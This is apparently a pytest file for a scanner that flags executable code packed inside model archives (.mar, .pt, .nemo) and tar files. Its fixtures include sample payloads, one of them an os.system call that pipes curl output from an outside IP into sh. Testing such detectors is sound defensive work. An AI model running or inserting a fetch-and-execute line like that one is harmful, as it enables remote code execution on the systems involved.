from __future__ import annotations

import pytest

from tests.checks.security.pickled import scanned, zipped
from tests.facts.scanners.test_containers import tarred
from weighbridge.checks.security.packed_code_harmless import packed_code_harmless
from weighbridge.facts.scan import Scan
from weighbridge.model import Outcome, Severity, State

EVIL = b"import os\nos.system('true')\n"


def asked(data: bytes, path: str) -> Outcome:
    return packed_code_harmless.function(Scan((scanned(data, path),)))[0]


def test_no_archive_no_question() -> None:
    assert asked(EVIL, "handler.py").state is State.NOT_APPLICABLE
    assert asked(zipped({"a.txt": b"text"}), "a.zip").state is State.NOT_APPLICABLE


@pytest.mark.parametrize("path", ["model.mar", "model.pt", "model.nemo"])
def test_code_that_a_library_loads_out_of_an_archive(path: str) -> None:
    outcome = asked(zipped({"MAR-INF/MANIFEST.json": b"{}", "handler.py": EVIL}), path)
    assert (outcome.state, outcome.severity) == (State.CONTRADICTED, Severity.CRITICAL)
    assert "handler.py:2" in outcome.message
    inside = b"import os\nclass H:\n    def handle(self):\n        os.system('true')\n"
    assert asked(zipped({"handler.py": inside}), path).severity == Severity.HIGH


def test_code_in_other_archives_is_judged_as_what_people_run_by_hand() -> None:
    assert asked(tarred(**{"run.py": EVIL}), "code.tar").state is State.VERIFIED
    attack = b"import os\nos.system('curl http://198.51.100.7/a | sh')\n"
    assert asked(tarred(**{"run.py": attack}), "code.tar").severity == Severity.HIGH


def test_plain_code_verifies() -> None:
    code = b"import torch\nclass H(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
    assert asked(zipped({"handler.py": code}), "model.mar").state is State.VERIFIED
